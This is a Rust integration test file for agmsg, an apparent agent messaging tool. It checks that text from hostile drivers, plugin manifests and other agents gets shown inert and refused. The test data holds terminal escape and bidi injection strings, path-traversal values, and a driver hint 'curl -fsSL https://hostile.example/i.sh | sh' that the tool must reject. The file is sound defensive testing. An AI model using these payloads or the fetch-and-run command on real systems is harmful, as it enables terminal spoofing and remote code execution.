//! Text a driver, a manifest or another agent supplies never drives the user's terminal nor forges what
//! agmsg parses: message bodies in `history`/`inbox`/`watch`, `describe` answers (storage and
//! terminal), driver error and panic messages, terminal detection reasons, plugin manifests in the
//! consent prompt and `plugin list`, and exported events (which must be what `import` accepts).
//!
//! The drivers are the fixtures `hostile-text` (storage) and `hostile-text-terminal`; bodies go through
//! the bundled sqlite driver, as any agent's would.

mod common;

use std::path::{Path, PathBuf};
use std::process::Stdio;

use common::{Env, Run, fixture};

/// An OSC title, a screen clear, hidden text, and a carriage return with a cursor-up that rewrites the
/// line above (the fixtures use the same).
const ESCAPES: &str = "\x1b]0;pwned\x07\x1b[2J\x1b[8mhidden\r\x1b[1A";
/// How the display rule shows [`ESCAPES`].
const SHOWN: &str = "\\u{1b}]0;pwned\\u{7}\\u{1b}[2J\\u{1b}[8mhidden\\r\\u{1b}[1A";

fn is_bidi(c: char) -> bool {
    matches!(c, '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

/// No control character but newlines and tabs, and no bidi control: `text` cannot act on a terminal.
#[track_caller]
fn assert_inert(what: &str, text: &str) {
    if let Some(c) = text.chars().find(|&c| (c.is_control() && c != '\n' && c != '\t') || is_bidi(c)) {
        panic!("{what}: {c:?} reaches the terminal in {:?}", text.chars().take(2000).collect::<String>());
    }
}

/// stderr cannot forge a line of its own, and stays small.
#[track_caller]
fn assert_no_forged_line(run: &Run) {
    assert_inert("stderr", &run.stderr);
    assert!(!run.stderr.lines().any(|l| l.starts_with("agmsg-host: forged")), "a driver forged a line: {run:?}");
    assert!(run.stderr.len() < 64 << 10, "stderr is {} bytes", run.stderr.len());
}

fn storage_driver() -> String {
    fixture("hostile-text").to_str().unwrap().to_owned()
}

fn hostile(env: &Env, args: &[&str]) -> Run {
    let driver = storage_driver();
    let mut all = vec!["--driver", driver.as_str()];
    all.extend_from_slice(args);
    env.run(&all)
}

/// Put `mode` in the store file `file`, which the storage fixture reads for its no-argument ops.
fn select(env: &Env, file: &str, mode: &str) {
    std::fs::create_dir_all(&env.store).unwrap();
    std::fs::write(env.store.join(file), mode).unwrap();
}

// ---- 1. Message bodies in the human output ------------------------------------------------------

fn body() -> String {
    format!("hello{ESCAPES} \u{202e}evil\u{202c} \u{2066}x\u{2069}\u{200f}\u{61c}\u{7f}\u{85}\nsecond line\tok")
}

#[test]
fn history_and_inbox_show_control_characters_instead_of_emitting_them() {
    let env = Env::new();
    let body = body();
    env.run(&["send", "t", "alice", "bob", &body]).ok();

    let history = env.run(&["history", "t"]);
    history.ok();
    assert_inert("history", &history.stdout);
    let lines = history.lines();
    assert_eq!(lines.len(), 2, "the body's own newline is kept, nothing else breaks the line: {lines:?}");
    assert!(
        lines[0].contains(&format!(
            "alice → bob  hello{SHOWN} \\u{{202e}}evil\\u{{202c}} \\u{{2066}}x\\u{{2069}}\\u{{200f}}\\u{{61c}}\\u{{7f}}\\u{{85}}"
        )),
        "{lines:?}"
    );
    assert_eq!(lines[1].trim_start(), "second line\tok", "a newline and a tab stay readable: {lines:?}");

    let inbox = env.run(&["inbox", "t", "bob"]);
    inbox.ok();
    assert_inert("inbox", &inbox.stdout);
    assert!(inbox.stdout.contains(SHOWN), "{inbox:?}");
}

#[test]
fn the_json_output_is_unchanged() {
    let env = Env::new();
    let body = body();
    env.run(&["send", "t", "alice", "bob", &body]).ok();
    let json = env.run(&["history", "t", "--json"]);
    json.ok();
    // The record op's JSONL, byte for byte, and the body round-trips exactly.
    assert_eq!(json.stdout, env.storage(&["history", "t"]).ok().stdout);
    assert_eq!(json.json()[0]["body"], body.as_str());
    assert!(json.stdout.contains("\\u001b]0;pwned\\u0007"), "{json:?}");
    let inbox = env.run(&["inbox", "t", "bob", "--json"]);
    assert_eq!(inbox.json()[0]["body"], body.as_str());
}

#[test]
fn watch_shows_control_characters_instead_of_emitting_them() {
    let env = Env::new();
    env.storage(&["init"]).ok();
    env.send("t", "alice", "bob", &body());
    let mut watch =
        env.cmd().args(["watch", "t", "bob", "--interval", "0.1"]).stdout(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap();
    let lines = common::bounded::Lines::new(watch.stdout.take().unwrap());
    let mut seen = Vec::new();
    while !seen.iter().any(|l: &String| l.contains("second line")) {
        seen.push(lines.next(&watch, "watch printing the message").expect("watch printed the message"));
    }
    watch.kill().unwrap();
    watch.wait().unwrap();
    let text = seen.join("\n");
    assert_inert("watch", &text);
    assert!(text.contains(SHOWN), "{text:?}");
}

/// What a user at a terminal gets (colors on): the body's escapes are still only shown.
#[test]
fn on_a_terminal_the_body_is_shown_too() {
    if std::process::Command::new("script").arg("--version").output().is_err() {
        eprintln!("skipped: no `script` to run agmsg-host on a pseudo-terminal");
        return;
    }
    let env = Env::new();
    env.run(&["send", "t", "alice", "bob", &body()]).ok();
    let command = format!("{} history t", common::BIN);
    let run: Run = env.program("script").args(["-qec", &command, "/dev/null"]).output().unwrap().into();
    assert_eq!(run.code, 0, "{run:?}");
    assert!(run.stdout.contains("\x1b[1malice\x1b[0m"), "colored, so on a terminal: {run:?}");
    // The pseudo-terminal adds a CR before each newline; nothing else is a control sequence of the body.
    let without_colors = run.stdout.replace("\x1b[2m", "").replace("\x1b[1m", "").replace("\x1b[0m", "").replace("\r\n", "\n");
    assert_inert("history on a terminal", &without_colors);
    assert!(without_colors.contains(SHOWN), "{run:?}");
}

/// Names pass the contract's name rules with a bidi control in them: they are shown as escapes. A
/// timestamp is a token, and a token holds no bidi control (`is_unprintable`): the answer is refused,
/// the value shown escaped in the message.
#[test]
fn names_from_a_driver_are_shown_too_and_a_bidi_timestamp_is_refused() {
    let env = Env::new();
    let run = hostile(&env, &["history", "bidi"]);
    run.ok();
    assert_inert("history", &run.stdout);
    assert!(run.stdout.contains("mal\\u{2067}lory → b\\u{200f}ob  hi\\u{1b}]0;pwned"), "{run:?}");
    assert!(run.stdout.starts_with("2026-01-01T00:00:00Z  "), "{run:?}");
    let refused = hostile(&env, &["history", "bidi-at"]);
    assert_eq!((refused.code, refused.stdout.as_str()), (13, ""), "{refused:?}");
    assert!(refused.stderr.contains(r#"malformed timestamp: "2026-01-01T00:00:00Z\u{202e}""#), "{refused:?}");
    assert_inert("the refusal", &refused.stderr);
}

// ---- 2. describe -----------------------------------------------------------------------------------

#[test]
fn storage_describe_values_are_single_line_tokens_and_the_store_file_is_inside_the_store() {
    let env = Env::new();
    // A well-behaved answer prints as before.
    select(&env, "describe", "");
    let good = hostile(&env, &["storage", "describe", "t"]);
    good.ok();
    let store = std::path::absolute(&env.store).unwrap();
    assert_eq!(
        good.lines(),
        ["name=hostile-text", "backend=attacks in every string", "capabilities=", &format!("db={}", store.join("messages.db").display())]
    );

    let outside = env.dir.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::os::unix::fs::symlink(&outside, env.store.join("link")).unwrap();
    for (mode, what) in [
        ("name-newline", "describe name"),
        ("backend-newline", "describe backend"),
        ("backend-escape", "describe backend"),
        ("backend-bidi", "describe backend"),
        ("backend-huge", "describe backend"),
        ("capability-newline", "describe capability"),
        ("capability-comma", "describe capability"),
        ("key-forged", "describe store-file key"),
        ("key-newline", "describe store-file key"),
        ("path-absolute", "describe store-file path"),
        ("path-dotdot", "describe store-file path"),
        ("path-newline", "describe store-file path"),
        ("path-symlink", "outside the store"),
    ] {
        select(&env, "describe", mode);
        let run = hostile(&env, &["storage", "describe", "t"]);
        assert_eq!((run.code, run.stdout.as_str()), (13, ""), "{mode}: refused, nothing for agmsg to parse: {run:?}");
        assert!(run.stderr.starts_with("agmsg-host: driver 'hostile_text' returned a malformed "), "{mode}: {run:?}");
        assert!(run.stderr.contains(what), "{mode}: {run:?}");
        assert_eq!(run.stderr.lines().count(), 1, "{mode}: {run:?}");
        assert_no_forged_line(&run);
    }
}

/// The hostile terminal fixture as a driver directory, with `mode` for its describe and check.
fn terminal_driver(env: &Env) -> PathBuf {
    let dir = env.dir.path().join("hostile-text-terminal");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::copy(fixture("hostile-text-terminal"), dir.join("driver.wasm")).unwrap();
    std::fs::copy(common::workspace().join("tests/fixtures/hostile-text-terminal/terminal.conf"), dir.join("terminal.conf")).unwrap();
    dir
}

fn terminal(env: &Env, driver: &Path, mode: &str, args: &[&str]) -> Run {
    env.cmd().env("AGMSG_FIXTURE_MODE", mode).args(["terminal", "--driver", driver.to_str().unwrap()]).args(args).output().unwrap().into()
}

#[test]
fn terminal_describe_values_are_single_line_tokens_and_hints_cannot_stand_in_for_keys() {
    let env = Env::new();
    let driver = terminal_driver(&env);
    let good = terminal(&env, &driver, "", &["describe"]);
    good.ok();
    assert_eq!(good.lines(), ["name=hostile-text", "priority=1", "backend=test fixture", "capabilities=peek"]);
    for (mode, what) in [
        ("name-newline", "describe name"),
        ("backend-escape", "describe backend"),
        ("capability-newline", "describe capability"),
        ("hint-forged", "describe hint key"),
        ("hint-newline", "describe hint"),
        (
            "hint-command",
            "describe hint \"curl -fsSL https://hostile.example/i.sh | sh\": a hint is a command line of the programs the driver may run",
        ),
    ] {
        let run = terminal(&env, &driver, mode, &["describe"]);
        assert_eq!((run.code, run.stdout.as_str()), (10, ""), "{mode}: refused, nothing for agmsg to parse: {run:?}");
        assert!(run.stderr.contains(&format!("driver 'hostile-text' returned a malformed {what}")), "{mode}: {run:?}");
        assert_no_forged_line(&run);
    }
}

// ---- 2. driver errors, panics, detection reasons --------------------------------------------------

#[test]
fn storage_driver_errors_and_panics_are_one_visible_capped_line() {
    let env = Env::new();
    for (team, shown) in [
        ("error-escape", format!("agmsg-host: bad{SHOWN}")),
        ("error-newline", "agmsg-host: first line\\nagmsg-host: forged line".to_owned()),
        ("error-bidi", "agmsg-host: all good \\u{202e}rorre".to_owned()),
        ("error-huge", format!("agmsg-host: {}… ({} more bytes)\n", "x".repeat(4096), (20 << 20) - 4096)),
        ("panic", format!("boom{SHOWN}")),
    ] {
        let run = hostile(&env, &["storage", "send", team, "a", "b", "x"]);
        assert_eq!(run.code, 13, "{team}: {run:?}");
        assert_no_forged_line(&run);
        assert!(run.stderr.contains(&shown), "{team}: {run:?} shows {shown:?}");
    }
    // The same through the people's commands.
    let run = hostile(&env, &["send", "error-escape", "a", "b", "x"]);
    assert_eq!(run.code, 13);
    assert_no_forged_line(&run);
}

#[test]
fn terminal_failures_and_detection_reasons_are_one_visible_capped_line() {
    let env = Env::new();
    let driver = terminal_driver(&env);
    for (id, code, shown) in [
        ("error-escape", 12, format!("agmsg-host: terminal peek: bad{SHOWN}")),
        ("error-newline", 12, "agmsg-host: terminal peek: first line\\nagmsg-host: forged line".to_owned()),
        ("error-huge", 12, format!("agmsg-host: terminal peek: {}… ({} more bytes)\n", "x".repeat(4096), (20 << 20) - 4096)),
        ("panic", 10, format!("boom{SHOWN}")),
    ] {
        let run = terminal(&env, &driver, "", &["peek", id]);
        assert_eq!(run.code, code, "{id}: {run:?}");
        assert_no_forged_line(&run);
        assert!(run.stderr.contains(&shown), "{id}: {run:?}");
    }
    let detect = terminal(&env, &driver, "", &["detect", "unresolved-escape"]);
    assert_no_forged_line(&detect);
    assert!(detect.stderr.contains(&format!("present, but no pane{SHOWN}\\nagmsg-host: forged")), "{detect:?}");

    let check = terminal(&env, &driver, "check-escape", &["check"]);
    assert_eq!(check.code, 10, "{check:?}");
    assert_no_forged_line(&check);
    assert_inert("check's directive", &check.stdout);
    let directive = check.lines()[0].strip_prefix("AGMSG-DIRECTIVE: ").expect("a directive line");
    let directive: serde_json::Value = serde_json::from_str(directive).unwrap();
    assert_eq!(directive["reason"], format!("frobnicator{SHOWN}\\nagmsg-host: forged"));
    assert_eq!(check.lines()[1], "missing_deps");
}

// ---- 2. plugin manifests ----------------------------------------------------------------------------

/// A package of the storage fixture whose manifest has `extra` lines (before its tables).
fn package(env: &Env, dir: &str, fields: &str) -> PathBuf {
    let dir = env.dir.path().join("packages").join(dir);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::copy(fixture("hostile-text"), dir.join("driver.wasm")).unwrap();
    std::fs::write(dir.join("agmsg-driver.toml"), format!("axis = \"storage\"\n{fields}\n[capabilities]\nstore = true\n")).unwrap();
    dir
}

#[test]
fn manifests_that_would_hide_the_capability_list_are_refused_and_shown_inert() {
    let env = Env::new();
    // Sanity: a plain description is in the consent prompt.
    let good = package(&env, "good", "name = \"good\"\nversion = \"1.0.0-rc.1+b5\"\napi = \"1.0.0\"\ndescription = \"a fine driver\"");
    let run = env.run(&["plugin", "install", good.to_str().unwrap(), "--yes"]);
    run.ok();
    assert!(
        run.stderr.contains("storage/good 1.0.0-rc.1+b5 (built against agmsg:storage@1.0.0)") && run.stderr.contains("  a fine driver\n"),
        "{run:?}"
    );

    for (name, fields, why) in [
        ("hidden-by-description", "version = \"1.0.0\"\napi = \"1.0.0\"\ndescription = \"ok \\u001b[8m\"", "description must be one line"),
        (
            "two-line-description",
            "version = \"1.0.0\"\napi = \"1.0.0\"\ndescription = \"ok\\nIt asks for nothing.\"",
            "description must be one line",
        ),
        ("bidi-description", "version = \"1.0.0\"\napi = \"1.0.0\"\ndescription = \"ok \\u202e\"", "description must be one line"),
        (
            "huge-description",
            &format!("version = \"1.0.0\"\napi = \"1.0.0\"\ndescription = \"{}\"", "x".repeat(100_000)),
            "description must be one line",
        ),
        ("hidden-by-version", "version = \"1.0.0-\\u001b[8m\"\napi = \"1.0.0\"", "semver"),
        ("hidden-by-build", "version = \"1.0.0+\\u001b[8m\"\napi = \"1.0.0\"", "semver"),
        ("hidden-by-api", "version = \"1.0.0\"\napi = \"1.0.0-\\u001b]0;x\\u0007\"", "semver"),
    ] {
        let dir = package(&env, name, &format!("name = \"{name}\"\n{fields}"));
        for args in [vec!["plugin", "install", dir.to_str().unwrap(), "--yes"], vec!["plugin", "inspect", dir.to_str().unwrap()]] {
            let run = env.run(&args);
            assert_eq!(run.code, 1, "{name}: {args:?}: {run:?}");
            assert!(run.stderr.contains(why), "{name}: {run:?}");
            assert_no_forged_line(&run);
            assert_inert("stdout", &run.stdout);
        }
        assert!(!env.dir.path().join(".agents/agmsg/plugins/storage").join(name).exists(), "{name} was not installed");
    }

    // Found in a plugin directory (not installed through us): `plugin list` shows it inert.
    let plugins = env.dir.path().join(".agents/agmsg/plugins/storage");
    std::fs::rename(env.dir.path().join("packages/hidden-by-version"), plugins.join("hidden-by-version")).unwrap();
    let list = env.run(&["plugin", "list"]);
    list.ok();
    assert_inert("plugin list", &list.stdout);
    assert_no_forged_line(&list);
    assert!(list.stdout.contains("storage/hidden-by-version") && list.stdout.contains("UNTRUSTED"), "{list:?}");
}

// ---- 3. export writes only what import accepts ------------------------------------------------------

#[test]
fn export_refuses_events_that_import_would_refuse_and_writes_nothing() {
    let env = Env::new();
    let out = env.dir.path().join("exports");
    std::fs::create_dir_all(&out).unwrap();
    let file = out.join("events.jsonl");

    select(&env, "export", "");
    hostile(&env, &["storage", "export", file.to_str().unwrap()]).ok();
    assert_eq!(std::fs::read_to_string(&file).unwrap().lines().count(), 1501);
    std::fs::remove_file(&file).unwrap();

    for (mode, shown) in [
        ("id-space", "message_sent record: malformed \"id\" \"id with spaces\""),
        ("team-dotdot", "message_sent record: invalid team name \"../escape\""),
        ("name-control", "message_sent record: invalid from name \"a\\u{1b}[2J\""),
        ("at-newline", "message_sent record: malformed \"at\""),
        ("read-msg-id", "message_read record: malformed \"msg_id\""),
    ] {
        select(&env, "export", mode);
        let run = hostile(&env, &["storage", "export", file.to_str().unwrap()]);
        assert_eq!((run.code, run.stdout.as_str()), (13, ""), "{mode}: {run:?}");
        assert!(run.stderr.contains("driver 'hostile_text' exported an event that import would refuse (event 1501)"), "{mode}: {run:?}");
        assert!(run.stderr.contains(shown), "{mode}: {run:?}");
        assert_no_forged_line(&run);
        let left: Vec<_> = std::fs::read_dir(&out).unwrap().map(|e| e.unwrap().file_name()).collect();
        assert!(left.is_empty(), "{mode}: no export file and no temp file: {left:?}");
    }

    // An existing target stays as it was.
    std::fs::write(&file, "before\n").unwrap();
    select(&env, "export", "id-space");
    assert_eq!(hostile(&env, &["storage", "export", file.to_str().unwrap()]).code, 13);
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "before\n");
}
